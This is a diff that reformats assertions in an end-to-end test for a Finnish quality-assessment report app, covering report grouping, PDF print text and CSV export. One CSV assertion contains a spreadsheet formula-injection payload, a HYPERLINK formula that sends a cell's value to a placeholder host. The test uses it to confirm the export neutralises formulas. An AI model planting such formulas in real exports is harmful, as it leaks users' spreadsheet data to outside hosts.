@@ -25,7 +25,11 @@ async function checkDemoReport(page, t) {
   assert.equal(await page.getByTestId('report-section-row').count(), 3);
   const priorities = await page.getByTestId('report-priority-group').evaluateAll((groups) => groups.map((g) => g.dataset.priority));
   assert.ok(priorities.length > 0, 'the demo has recommendations');
-  assert.deepEqual(priorities, ['high', 'medium', 'low'].filter((p) => priorities.includes(p)), 'grouped high → medium → low');
+  assert.deepEqual(
+    priorities,
+    ['high', 'medium', 'low'].filter((p) => priorities.includes(p)),
+    'grouped high → medium → low',
+  );
   assert.ok((await page.getByTestId('report-recommendation').count()) >= priorities.length);
   assert.match(await page.getByTestId('report-change-total').textContent(), t.change);
   assert.ok((await page.getByTestId('report-changed-item').count()) > 0, 'items that changed since 2021 are listed');
@@ -58,7 +62,13 @@ test('report in fi at 1024x768: demo 2022 report, A4 PDF → PNG, CSV with a neu
   // Print: the PDF holds the report and nothing of the app around it.
   const { pages, text } = await printToPng(page, 'report-fi', OUT_DIR);
   assert.ok(pages.length >= 3 && pages.length <= 8, `a report of a few A4 pages, got ${pages.length}`);
-  for (const expected of ['IPS-laatuarvioinnin raportti', 'Työvalmennuspalvelu Kätevä', '74 pisteen rajan', 'Kehittämissuositukset', '83 → 91 (+8)']) {
+  for (const expected of [
+    'IPS-laatuarvioinnin raportti',
+    'Työvalmennuspalvelu Kätevä',
+    '74 pisteen rajan',
+    'Kehittämissuositukset',
+    '83 → 91 (+8)',
+  ]) {
     assert.ok(text.includes(expected), `the PDF says "${expected}"`);
   }
   for (const unwanted of ['Tulosta / tallenna PDF:ksi', 'Lataa pisteet (CSV)', 'Raportin kieli', 'Siirry sisältöön', 'Yleiskatsaus']) {
@@ -90,7 +100,10 @@ test('report in fi at 1024x768: demo 2022 report, A4 PDF → PNG, CSV with a neu
   assert.equal(rows[1][5], `'${FORMULA_NOTE}`, 'the formula is neutralised with an apostrophe');
   assert.ok(csv.includes(`;"'=HYPERLINK(""http://x?d=""&A1)";`), 'RFC 4180 quoting with doubled quotes');
   assert.ok(rows.slice(1).every((row) => row.length === 8));
-  assert.ok(rows.slice(1, 26).some((row) => row[7] !== ''), 'the recommendations are in the file');
+  assert.ok(
+    rows.slice(1, 26).some((row) => row[7] !== ''),
+    'the recommendations are in the file',
+  );
   assert.deepEqual(rows.at(-1), ['total', '', '', 'Kokonaispisteet', '91', 'kohtalainen', '', '']);
   await assertClean(page);
 });
